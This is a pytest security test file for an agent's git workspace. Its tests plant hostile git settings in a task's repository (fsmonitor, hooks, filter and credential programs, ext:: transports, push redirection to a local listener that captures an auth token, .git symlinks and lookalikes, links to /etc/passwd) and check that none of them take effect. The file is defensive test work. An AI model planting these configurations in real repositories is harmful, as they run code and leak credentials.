"""Host-side git never reads what a task wrote (issue 16, item 1 and item 7's `.git` part).

Each test plays a task: it writes hostile content into the copy `Workspace.export` gave it, by
plain file writes and `git -C dest config ...` as a task's own commands would. Then the agent
does what it does after every task (`collect`, `commit`, `push`) and the test checks that the
hostile program never ran (its marker file is absent) and no byte went to the hostile host.

Positive control, in every test: the very same `dest` handed to a naive host git (what the
agent used to run: `git status`, `git add`, `git commit`, `git push` in the task's directory)
DOES run the program or DOES contact the hostile host with the token, so no test can pass
because its attack was mistyped or never set up. Refused results are shown to exist on disk
first and to be refused as a whole: nothing is committed or pushed.
"""

from __future__ import annotations

import base64
import contextlib
import itertools
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from bzzz.executor.workspace import ResultLimits, ResultRefused, Workspace, git_url
from tests.forge.harness import Forge, start_forge, stop_forge

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

TOKEN = "agent-1-secret-token"
BASIC = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
SEED = """
users:
  - {login: alice, site_admin: true, tokens: [alice-token]}
  - {login: agent-1, tokens: [agent-1-secret-token]}
repos:
  - owner: alice
    name: tasks
    collaborators: {agent-1: push}
    files: {README.md: "# Tasks\\n"}
"""
_numbers = itertools.count(1)


class Listener:
    """A TCP port that records whatever connects to it: where a hijacked push would go."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.received: list[bytes] = []
        self._lock = threading.Lock()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(10)
                data = b""
                try:
                    while b"\r\n\r\n" not in data and len(data) < 65536:
                        chunk = conn.recv(4096)
                        if not chunk:
                            break
                        data += chunk
                finally:
                    # Recorded before answering: the client cannot be done before we know.
                    with self._lock:
                        self.received.append(data)
                with contextlib.suppress(OSError):
                    conn.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def take(self) -> list[bytes]:
        with self._lock:
            got, self.received = self.received, []
        return got

    def close(self) -> None:
        self.server.close()


@pytest.fixture(scope="module")
def forge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Forge]:
    running = start_forge(tmp_path_factory.mktemp("forge"), seed=SEED)
    yield running
    stop_forge(running)


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    port = Listener()
    yield port
    port.close()


@dataclass
class Task:
    """One task's copy of the repository, and the agent's workspace it came from."""

    workspace: Workspace
    dest: Path
    tmp: Path
    forge: Forge
    markers: list[Path] = field(default_factory=list)

    def git(self, *args: str, cwd: Path | None = None) -> None:
        """git as a task's command runs it: in its own directory, with nothing of the agent's."""
        env = {"PATH": os.environ["PATH"], "HOME": str(self.tmp / "task-home"), "GIT_CONFIG_NOSYSTEM": "1"}
        subprocess.run(["git", *args], cwd=cwd or self.dest, env=env, check=True, capture_output=True, timeout=60)

    def program(self, name: str) -> tuple[Path, Path]:
        """An executable that leaves a marker when run: (the script, the marker)."""
        marker = self.tmp / f"RAN-{name}"
        script = self.tmp / f"{name}.sh"
        script.write_text(f"#!/bin/sh\ntouch {marker}\nexit 0\n")
        script.chmod(0o755)
        self.markers.append(marker)
        return script, marker

    def hook(self, hooks: Path, name: str) -> Path:
        hooks.mkdir(parents=True, exist_ok=True)
        marker = self.tmp / f"RAN-hook-{name}"
        (hooks / name).write_text(f"#!/bin/sh\ntouch {marker}\ncat >/dev/null\nexit 0\n")
        (hooks / name).chmod(0o755)
        return marker

    def change(self) -> None:
        """The task's honest part: an edit worth a pull request."""
        (self.dest / "README.md").write_text("# Tasks\n\nEdited by the task.\n")

    def deliver(self) -> str | None:
        """What the agent does once the task ended: take the result, commit it, push it."""
        self.workspace.collect(self.dest)
        sha = self.workspace.commit("the task's change")
        if sha is not None:
            self.workspace.push()
        return sha

    def on_forge(self) -> str | None:
        """The task branch's head on the forge, read with a git that trusts nothing."""
        out = subprocess.run(
            ["git", "ls-remote", self.workspace.url, f"refs/heads/{self.workspace.branch}"],
            capture_output=True,
            text=True,
            check=True,
            timeout=60,
            env={"PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(self.tmp)},
        )
        return out.stdout.split()[0] if out.stdout.strip() else None

    def fired(self) -> list[str]:
        return [m.name for m in self.markers if m.exists()]


def naive(dest: Path, *args: str, tmp: Path, header: bool = False) -> subprocess.CompletedProcess[str]:
    """What the agent used to run in the task's directory: plain host git, the token as a header."""
    home = tmp / "naive-home"
    home.mkdir(exist_ok=True)
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(home),
        "GIT_TERMINAL_PROMPT": "0",
        "GIT_CONFIG_NOSYSTEM": "1",
        "LANG": "C.UTF-8",
    }
    auth = ["-c", f"http.extraHeader=Authorization: Basic {BASIC}"] if header else []
    return subprocess.run(
        ["git", "-c", "user.name=agent", "-c", "user.email=agent@x", *auth, *args],
        cwd=dest,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
        check=False,
    )


@pytest.fixture
def task(forge: Forge, tmp_path: Path) -> Iterator[Task]:
    branch = f"bzzz/{next(_numbers)}-agent-1"
    workspace = Workspace.clone(
        tmp_path / "work",
        git_url(forge.url, "alice/tasks"),
        token=TOKEN,
        branch=branch,
        author=("agent-1", "agent-1@users.noreply.bzzz"),
    )
    dest = tmp_path / "dest"
    dest.mkdir()
    workspace.export(dest)
    (tmp_path / "task-home").mkdir()
    yield Task(workspace, dest, tmp_path, forge)
    workspace.remove()


# --- settings in the task's .git/config that make git run a program -------------------------


def test_a_tasks_core_fsmonitor_never_runs_on_the_host(task: Task) -> None:
    script, marker = task.program("fsmonitor")
    task.git("config", "core.fsmonitor", str(script))
    task.change()
    assert task.deliver() is not None and task.on_forge() is not None
    assert not marker.exists()
    naive(task.dest, "status", tmp=task.tmp)
    assert marker.exists(), "positive control: plain git status runs the task's fsmonitor"


@pytest.mark.parametrize(
    "hook", ["pre-commit", "post-commit", "reference-transaction", "commit-msg", "post-index-change"]
)
def test_a_hook_a_task_plants_in_its_git_dir_never_runs_when_the_agent_commits(task: Task, hook: str) -> None:
    marker = task.hook(task.dest / ".git" / "hooks", hook)
    task.change()
    assert task.deliver() is not None
    assert not marker.exists()
    naive(task.dest, "commit", "-qam", "x", tmp=task.tmp)
    assert marker.exists(), f"positive control: plain git commit runs {hook}"


def test_a_pre_push_hook_a_task_plants_never_runs_when_the_agent_pushes(task: Task) -> None:
    marker = task.hook(task.dest / ".git" / "hooks", "pre-push")
    task.change()
    assert task.deliver() is not None and task.on_forge() is not None
    assert not marker.exists()
    bare = task.tmp / "elsewhere.git"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    naive(task.dest, "push", str(bare), "HEAD:refs/heads/x", tmp=task.tmp)
    assert marker.exists(), "positive control: plain git push runs pre-push"


def test_a_hooks_path_a_task_sets_is_never_used(task: Task) -> None:
    marker = task.hook(task.dest / ".git" / "my-hooks", "pre-commit")
    task.git("config", "core.hooksPath", str(task.dest / ".git" / "my-hooks"))
    task.change()
    assert task.deliver() is not None
    assert not marker.exists()
    naive(task.dest, "commit", "-qam", "x", tmp=task.tmp)
    assert marker.exists(), "positive control: plain git commit runs hooks from core.hooksPath"


def test_a_filter_driver_named_by_the_tasks_gitattributes_never_runs_and_the_bytes_are_kept(task: Task) -> None:
    script, marker = task.program("filter")
    task.git("config", "filter.evil.clean", f"{script}; echo CLEANED")
    task.git("config", "filter.evil.required", "true")
    (task.dest / ".gitattributes").write_text("* filter=evil\n")
    (task.dest / "data.txt").write_text("raw bytes\r\n")
    task.change()
    sha = task.deliver()
    assert sha is not None and not marker.exists()
    shown = subprocess.run(
        ["git", "--git-dir", str(task.workspace.git_dir), "cat-file", "blob", f"{sha}:data.txt"],
        capture_output=True,
        check=True,
    )
    assert shown.stdout == b"raw bytes\r\n", "committed as written: no filter, no eol conversion"
    naive(task.dest, "add", "-A", tmp=task.tmp)
    assert marker.exists(), "positive control: plain git add runs the clean filter"


def test_a_textconv_or_external_diff_a_task_configures_never_runs(task: Task) -> None:
    textconv, textconv_ran = task.program("textconv")
    external, external_ran = task.program("external-diff")
    task.git("config", "diff.evil.textconv", str(textconv))
    task.git("config", "diff.external", str(external))
    (task.dest / ".gitattributes").write_text("*.md diff=evil\n")
    task.change()
    assert task.deliver() is not None
    assert task.fired() == []
    naive(task.dest, "diff", tmp=task.tmp)
    assert external_ran.exists(), "positive control: plain git diff runs diff.external"
    naive(task.dest, "diff", "--no-ext-diff", tmp=task.tmp)
    assert textconv_ran.exists(), "positive control: plain git diff runs the textconv driver"


def test_a_config_file_included_by_the_tasks_config_is_never_read(task: Task) -> None:
    script, marker = task.program("included")
    (task.dest / ".git" / "evil.cfg").write_text(f"[core]\n\tfsmonitor = {script}\n")
    task.git("config", "include.path", "evil.cfg")
    task.git("config", f"includeIf.gitdir:{task.dest}/.path", "evil.cfg")
    task.change()
    assert task.deliver() is not None
    assert not marker.exists()
    naive(task.dest, "status", tmp=task.tmp)
    assert marker.exists(), "positive control: plain git status reads the included config"


@pytest.mark.parametrize("key", ["core.sshCommand", "ext-transport"])
def test_a_transport_program_a_task_configures_never_runs_when_the_agent_pushes(task: Task, key: str) -> None:
    script, marker = task.program("transport")
    if key == "core.sshCommand":
        task.git("config", "core.sshCommand", str(script))
        task.git("remote", "add", "origin", "ssh://git@example.invalid/alice/tasks.git")
    else:
        task.git("config", "protocol.ext.allow", "always")
        task.git("remote", "add", "origin", f"ext::{script} %S")
    task.change()
    assert task.deliver() is not None and task.on_forge() is not None
    assert not marker.exists()
    naive(task.dest, "push", "origin", "HEAD:refs/heads/x", tmp=task.tmp)
    assert marker.exists(), f"positive control: plain git push runs the {key} program"


@pytest.mark.parametrize("key", ["credential.helper", "core.askPass"])
def test_a_credential_program_a_task_configures_never_runs(task: Task, key: str) -> None:
    script, marker = task.program("credential")
    task.git("config", key, f"!{script}" if key == "credential.helper" else str(script))
    task.git("remote", "add", "origin", task.workspace.url)
    task.change()
    assert task.deliver() is not None and task.on_forge() is not None
    assert not marker.exists()
    naive(task.dest, "push", "origin", "HEAD:refs/heads/x", tmp=task.tmp)  # no header: the forge asks
    assert marker.exists(), f"positive control: plain git push asks {key} for credentials"


def test_a_signing_program_a_task_configures_never_runs(task: Task) -> None:
    script, marker = task.program("gpg")
    task.git("config", "gpg.program", str(script))
    task.git("config", "commit.gpgSign", "true")
    task.change()
    assert task.deliver() is not None
    assert not marker.exists()
    naive(task.dest, "commit", "-qam", "x", tmp=task.tmp)
    assert marker.exists(), "positive control: plain git commit runs gpg.program"


# --- settings that send the push, and the token, somewhere else ------------------------------


@pytest.mark.parametrize(
    "how", ["remote.origin.url", "remote.origin.pushurl", "url.insteadOf", "url.pushInsteadOf", "http.proxy"]
)
def test_a_push_never_goes_where_the_tasks_config_says_and_never_carries_the_token_there(
    task: Task, listener: Listener, how: str
) -> None:
    forge_url = task.workspace.url
    hostile = f"{listener.url}/stolen.git"
    if how == "remote.origin.url":
        task.git("remote", "add", "origin", hostile)
        target = "origin"
    elif how == "remote.origin.pushurl":
        task.git("remote", "add", "origin", forge_url)
        task.git("config", "remote.origin.pushurl", hostile)
        target = "origin"
    elif how == "url.insteadOf":
        task.git("config", f"url.{listener.url}/.insteadOf", task.forge.url + "/")
        target = forge_url
    elif how == "url.pushInsteadOf":
        task.git("config", f"url.{listener.url}/.pushInsteadOf", task.forge.url + "/")
        target = forge_url
    else:
        task.git("config", "http.proxy", listener.url)
        target = forge_url
    listener.take()
    task.change()
    sha = task.deliver()
    assert sha is not None and task.on_forge() == sha, "the push went to the configured forge"
    assert listener.take() == [], "nothing connected to the task's host"

    naive(task.dest, "push", target, "HEAD:refs/heads/x", tmp=task.tmp, header=True)
    stolen = b"".join(listener.take())
    assert f"Authorization: Basic {BASIC}".encode() in stolen, "positive control: plain git push sends the token"


# --- a .git that is not a directory of the task's own -----------------------------------------


def _hostile_repo(task: Task, where: Path) -> Path:
    """A repository outside the task's copy whose config runs a program on `git status`."""
    script, marker = task.program("elsewhere")
    subprocess.run(["git", "init", "-q", str(where)], check=True)
    subprocess.run(["git", "-C", str(where), "config", "core.fsmonitor", str(script)], check=True)
    return marker


def test_a_gitfile_pointing_elsewhere_is_never_followed(task: Task) -> None:
    marker = _hostile_repo(task, task.tmp / "elsewhere")
    shutil.rmtree(task.dest / ".git")
    (task.dest / ".git").write_text(f"gitdir: {task.tmp / 'elsewhere' / '.git'}\n")
    task.change()
    assert task.deliver() is not None and task.on_forge() is not None
    assert not marker.exists()
    naive(task.dest, "status", tmp=task.tmp)
    assert marker.exists(), "positive control: plain git follows the gitfile"


def test_a_git_dir_replaced_by_a_symlink_is_never_followed(task: Task) -> None:
    marker = _hostile_repo(task, task.tmp / "elsewhere")
    shutil.rmtree(task.dest / ".git")
    (task.dest / ".git").symlink_to(task.tmp / "elsewhere" / ".git")
    task.change()
    assert task.deliver() is not None and task.on_forge() is not None
    assert not marker.exists()
    naive(task.dest, "status", tmp=task.tmp)
    assert marker.exists(), "positive control: plain git follows the .git symlink"


def test_the_tasks_own_commits_and_config_are_ignored_only_its_files_count(task: Task) -> None:
    (task.dest / "mine.txt").write_text("committed by the task\n")
    task.git("add", "mine.txt")
    task.git("-c", "user.name=mallory", "-c", "user.email=m@x", "commit", "-qm", "task commit")
    task.git("config", "user.name", "mallory")
    sha = task.deliver()
    assert sha is not None
    log = subprocess.run(
        ["git", "--git-dir", str(task.workspace.git_dir), "log", "--format=%an %s", sha],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.splitlines()
    assert log[0] == "agent-1 the task's change" and not any("mallory" in line for line in log)
    assert task.workspace.changed == ["mine.txt"]


def test_a_repository_around_the_agents_work_directory_is_never_discovered(forge: Forge, tmp_path: Path) -> None:
    # Defence in depth: every call names its repository, and discovery stops at the workspace.
    around = tmp_path / "around"
    subprocess.run(["git", "init", "-q", str(around)], check=True)
    marker = tmp_path / "RAN-around"
    (tmp_path / "around.sh").write_text(f"#!/bin/sh\ntouch {marker}\n")
    (tmp_path / "around.sh").chmod(0o755)
    subprocess.run(["git", "-C", str(around), "config", "core.fsmonitor", str(tmp_path / "around.sh")], check=True)
    workspace = Workspace.clone(
        around / "work",
        git_url(forge.url, "alice/tasks"),
        token=TOKEN,
        branch=f"bzzz/{next(_numbers)}-agent-1",
        author=("agent-1", "a@x"),
    )
    dest = around / "dest"
    dest.mkdir()
    workspace.export(dest)
    (dest / "README.md").write_text("changed\n")
    workspace.collect(dest)
    assert workspace.commit("x") is not None
    workspace.push()
    assert not marker.exists()
    (workspace.path / "home").mkdir(exist_ok=True)
    naive(workspace.path / "home", "status", tmp=tmp_path)
    assert marker.exists(), "positive control: plain git in the workspace finds the repository around it"


def test_a_refused_result_leaves_no_earlier_result_to_commit(task: Task) -> None:
    task.change()
    assert task.workspace.collect(task.dest) == ["README.md"]
    os.mkfifo(task.dest / "pipe")
    with pytest.raises(ResultRefused):
        task.workspace.collect(task.dest)
    with pytest.raises(Exception, match="nothing collected"):
        task.workspace.commit("the earlier, clean result must not slip through")


# --- results refused as a whole -----------------------------------------------------------------


def _refused(task: Task, limits: ResultLimits | None = None) -> str:
    task.change()
    with pytest.raises(ResultRefused) as refused:
        task.workspace.collect(task.dest, limits or ResultLimits())
    with pytest.raises(Exception, match="nothing collected"):
        task.workspace.commit("must not happen")
    assert task.on_forge() is None
    assert TOKEN not in str(refused.value)
    return refused.value.reason


def test_a_nested_repository_is_refused(task: Task) -> None:
    marker = _hostile_repo(task, task.dest / "sub")
    (task.dest / "sub" / "file").write_text("x\n")
    naive(task.dest / "sub", "status", tmp=task.tmp)
    assert marker.exists(), "positive control: the nested repository is live for plain git"
    marker.unlink()
    reason = _refused(task)
    assert "sub/.git" in reason and not marker.exists()


@pytest.mark.parametrize(
    "name", [".GIT", ".Git", ".git.", ".git ", "git~1", "GIT~1", ".g\u200cit", ".git::$INDEX_ALLOCATION"]
)
def test_a_directory_a_case_insensitive_system_would_take_for_git_is_refused(task: Task, name: str) -> None:
    (task.dest / "sub" / name).mkdir(parents=True)
    (task.dest / "sub" / name / "config").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
    assert (task.dest / "sub" / name / "config").exists()
    assert "would be taken for a .git" in _refused(task)


def test_a_top_level_dotgit_lookalike_is_refused_too(task: Task) -> None:
    (task.dest / ".GIT").mkdir()
    (task.dest / ".GIT" / "config").write_text("[core]\n\thooksPath = /tmp\n")
    assert "would be taken for a .git" in _refused(task)


@pytest.mark.parametrize(
    ("link", "target"),
    [
        ("g", ".git"),
        ("sub/g", "../.git/config"),
        ("passwd", "/etc/passwd"),
        ("up", "../../x"),
        ("sub/up", "../../x"),
        ("sub/climb", "../sub/../../x"),
        ("sub/dotdot", "deeper/../../.."),
        (".gitmodules", "README.md"),
        (".GITMODULES", "README.md"),
        ("sub/.gitattributes", "../README.md"),
    ],
)
def test_a_symlink_that_leaves_the_repository_or_reaches_git_is_refused(task: Task, link: str, target: str) -> None:
    path = task.dest / link
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    assert os.readlink(path) == target
    assert f"the link {link}" in _refused(task)


def test_a_chain_of_links_that_would_climb_out_through_another_link_is_refused(task: Task) -> None:
    # `top` is fine alone (the repository root); `sub/out` reads as staying inside, but climbs
    # from where `top` really is, out of the repository: it is refused for its `..` after a name.
    (task.dest / "a" / "b").mkdir(parents=True)
    (task.dest / "a" / "b" / "top").symlink_to("../..")
    (task.dest / "a" / "b" / "out").symlink_to("top/../x")
    assert os.path.realpath(task.dest / "a" / "b" / "out") == str((task.dest.parent / "x").resolve())
    assert "climbs with .. after a name" in _refused(task)


def test_links_that_stay_inside_the_repository_are_committed_as_links(task: Task) -> None:
    (task.dest / "sub").mkdir()
    (task.dest / "readme-link").symlink_to("README.md")
    (task.dest / "sub" / "up").symlink_to("../README.md")
    (task.dest / "sub" / "root").symlink_to("..")
    task.change()
    sha = task.deliver()
    assert sha is not None
    tree = subprocess.run(
        ["git", "--git-dir", str(task.workspace.git_dir), "ls-tree", "-r", sha],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert "120000 blob" in tree and "sub/up" in tree and "sub/root" in tree


def test_a_fifo_is_refused(task: Task) -> None:
    os.mkfifo(task.dest / "pipe")
    assert "pipe is a fifo" in _refused(task)


def test_a_socket_is_refused(task: Task) -> None:
    path = task.dest / "sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    try:
        assert "sock is a socket" in _refused(task)
    finally:
        server.close()


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
def test_a_device_node_is_refused(task: Task) -> None:
    os.mknod(task.dest / "null", 0o666 | 0o020000, os.makedev(1, 3))
    assert "null is a character device" in _refused(task)


def test_a_file_over_the_size_cap_is_refused(task: Task) -> None:
    (task.dest / "big.bin").write_bytes(b"x" * 5000)
    assert "big.bin is larger than 4096 bytes" in _refused(task, ResultLimits(max_file_bytes=4096))


def test_too_many_files_or_too_many_bytes_in_all_are_refused(task: Task) -> None:
    for n in range(12):
        (task.dest / f"f{n}").write_bytes(b"y" * 1000)
    assert "more than the 10 allowed" in _refused(task, ResultLimits(max_files=10))
    assert "add up to more than 5000 bytes" in _refused(task, ResultLimits(max_total_bytes=5000))


def test_a_name_that_is_not_utf8_is_refused_with_a_reason_not_a_crash(task: Task) -> None:
    with open(os.path.join(os.fsencode(task.dest), b"bad-\xff-name"), "wb") as handle:
        handle.write(b"x")
    assert "not UTF-8" in _refused(task)


def test_ignored_files_do_not_count_against_the_caps(task: Task) -> None:
    (task.dest / ".gitignore").write_text("build/\n")
    (task.dest / "build").mkdir()
    for n in range(30):
        (task.dest / "build" / f"o{n}").write_bytes(b"z" * 10_000)
    task.change()
    changed = task.workspace.collect(task.dest, ResultLimits(max_files=5, max_total_bytes=50_000))
    assert sorted(changed) == [".gitignore", "README.md"]


# --- the same, with the agent as an unprivileged user ----------------------------------------

UNPRIVILEGED = r"""
import os, subprocess, sys
from pathlib import Path
from bzzz.executor.workspace import Workspace, git_url
base, url, token, listener, branch = Path(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5]
ws = Workspace.clone(base / "work", url, token=token, branch=branch, author=("agent-1", "a@x"))
dest = base / "dest"
dest.mkdir()
ws.export(dest)
def task(*args):
    subprocess.run(["git", *args], cwd=dest, check=True, env={"PATH": os.environ["PATH"], "HOME": str(base)})
task("config", "core.fsmonitor", str(base / "evil.sh"))
task("remote", "add", "origin", listener + "/stolen.git")
task("config", f"url.{listener}/.pushInsteadOf", url.rsplit("/", 2)[0] + "/")
(dest / "README.md").write_text("edited as nobody\n")
ws.collect(dest)
print(ws.commit("as an unprivileged agent"))
ws.push()
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="switching to an unprivileged user needs root")
@pytest.mark.skipif(shutil.which("setpriv") is None, reason="setpriv is not installed")
def test_an_unprivileged_agent_is_no_more_exposed_than_a_root_one(forge: Forge, listener: Listener) -> None:
    uid = 61_234
    base = Path(tempfile.mkdtemp(prefix="bzzz-unprivileged-", dir="/tmp"))
    try:
        os.chmod(base, 0o755)
        os.chown(base, uid, uid)
        marker = base / "RAN"
        (base / "evil.sh").write_text(f"#!/bin/sh\ntouch {marker}\n")
        (base / "evil.sh").chmod(0o755)
        listener.take()
        url = git_url(forge.url, "alice/tasks")
        branch = f"bzzz/{next(_numbers)}-agent-1"
        done = subprocess.run(
            [
                "setpriv",
                f"--reuid={uid}",
                f"--regid={uid}",
                "--clear-groups",
                sys.executable,
                "-c",
                UNPRIVILEGED,
                str(base),
                url,
                TOKEN,
                listener.url,
                branch,
            ],
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
            env={"PATH": os.environ["PATH"], "PYTHONPATH": os.pathsep.join(sys.path)},
        )
        assert done.returncode == 0, done.stderr
        sha = done.stdout.strip()
        assert len(sha) == 40 and not marker.exists() and listener.take() == []
        heads = subprocess.run(
            ["git", "ls-remote", url, f"refs/heads/{branch}"],
            capture_output=True,
            text=True,
            check=True,
            env={"PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1"},
        ).stdout
        assert heads.split()[0] == sha
        dest = base / "dest"
        subprocess.run(
            ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "git", "status"],
            cwd=dest,
            capture_output=True,
            timeout=60,
            check=False,
            env={"PATH": os.environ["PATH"], "HOME": str(base), "GIT_CONFIG_NOSYSTEM": "1"},
        )
        assert marker.exists(), "positive control: the same user's plain git status runs the fsmonitor"
    finally:
        shutil.rmtree(base, ignore_errors=True)
